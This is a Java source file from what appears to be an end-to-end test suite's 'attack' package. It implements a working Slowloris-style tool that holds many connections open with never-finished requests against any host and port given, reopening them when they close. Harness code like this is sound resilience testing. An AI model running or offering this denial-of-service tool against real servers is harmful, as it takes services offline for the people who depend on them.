package dev.corvid.e2e.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * {@code Hold HOST PORT COUNT SECONDS [BEGINNING]} keeps so many connections open, each after the
 * beginning of a request that never ends, and opens those again that the other side closes.
 */
public final class Hold {
  private static final Duration PAUSE = Duration.ofMillis(200);
  private static final Duration PATIENCE = Duration.ofSeconds(2);

  private final InetSocketAddress address;
  private final byte[] beginning;
  private final List<SocketChannel> held = new ArrayList<>();
  private int opened;
  private int failed;
  private int most;

  private Hold(InetSocketAddress address, String beginning) {
    this.address = address;
    this.beginning = beginning.getBytes(StandardCharsets.ISO_8859_1);
  }

  /**
   * @param arguments see above; {@code \n} in the beginning ends a line
   */
  public static void main(String[] arguments) throws InterruptedException {
    var address = new InetSocketAddress(arguments[0], Integer.parseInt(arguments[1]));
    var text = arguments.length > 4 ? arguments[4].replace("\\n", "\r\n") : "";
    new Hold(address, text)
        .hold(Integer.parseInt(arguments[2]), Duration.ofSeconds(Long.parseLong(arguments[3])));
  }

  private void hold(int count, Duration time) throws InterruptedException {
    long end = System.nanoTime() + time.toNanos();
    while (System.nanoTime() < end) {
      held.removeIf(Hold::isClosed);
      for (int i = held.size(); i < count && System.nanoTime() < end && open(); i++) {
        most = Math.max(most, held.size());
      }
      Thread.sleep(PAUSE);
    }
    held.removeIf(Hold::isClosed);
    System.out.printf(
        "%d opened, %d refused, at most %d held at once, %d at the end%n",
        opened, failed, most, held.size());
  }

  /** False when there is none to be had now. */
  private boolean open() {
    try {
      var channel = SocketChannel.open();
      try {
        channel.socket().connect(address, (int) PATIENCE.toMillis());
        channel.write(ByteBuffer.wrap(beginning));
        channel.configureBlocking(false);
        held.add(channel);
        opened++;
        return true;
      } catch (IOException e) {
        channel.close();
        throw e;
      }
    } catch (IOException e) {
      failed++;
      return false;
    }
  }

  private static boolean isClosed(SocketChannel channel) {
    try {
      if (channel.read(ByteBuffer.allocate(512)) >= 0) {
        return false;
      }
      channel.close();
    } catch (IOException e) {
      // So it is.
    }
    return true;
  }
}
